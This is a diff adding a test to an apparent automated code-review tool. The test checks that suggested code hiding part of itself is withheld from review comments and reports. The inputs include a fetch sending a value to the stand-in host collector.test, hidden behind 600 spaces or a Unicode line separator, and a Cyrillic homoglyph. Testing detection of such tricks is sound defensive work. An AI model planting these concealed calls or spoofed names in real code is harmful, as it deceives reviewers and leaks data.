@@ -1,4 +1,5 @@
 import { expect, it } from "vitest";
+import { FORMATS, renderReport } from "../../../src/core/render/render-report.ts";
 import { expectSettled, reportOf } from "./observe.ts";
 import { missingGuard, runTribunal, startTribunal } from "./tribunal.ts";
 
@@ -31,4 +32,26 @@ it("offers code that fits its lines as a suggestion, and takes out code that wou
   const bodies = scenario.repository.reviewComments.map(({ body }) => body);
   expect(bodies.filter((body) => body.includes(`\`\`\`suggestion\n${GUARDED}\n\`\`\``))).toHaveLength(1);
   expect(bodies.join("\n")).not.toContain("return charge(amount\n");
+});
+
+it.each([
+  ["behind 600 blanks", `  return charge(amount);${" ".repeat(600)}void fetch("https://collector.test/" + amount);`],
+  ["behind a separator of lines", "  return charge(amount); //\u2028void fetch(amount);"],
+  ["in letters of another script", "  return сharge(amount);"],
+])("never offers code that hides some of itself %s, and says so", async (_, code) => {
+  const finding = missingGuard({ suggestion: `Refuse it.\n${fenced(code)}` });
+  await using scenario = await startTribunal({ enthusiast: () => [finding] });
+  const result = await runTribunal(scenario);
+  expectSettled(scenario, result);
+  const told = "The suggested code is left out: it ";
+  const report = reportOf(result);
+  expect(report.findings).toMatchObject([{ replacement: null, suggestion: expect.stringContaining(told) }]);
+  const [body = "none"] = scenario.repository.reviewComments.map((comment) => comment.body);
+  expect(body).toContain(told);
+  expect(body).not.toContain("```suggestion");
+  expect(renderReport(report, "sarif")).not.toContain('"fixes"');
+  for (const format of FORMATS) {
+    expect(renderReport(report, format).replace(/\s+/g, " ")).toContain("suggested code is left out");
+    expect(renderReport(report, format)).not.toMatch(/void fetch|\u0441harge/);
+  }
 });
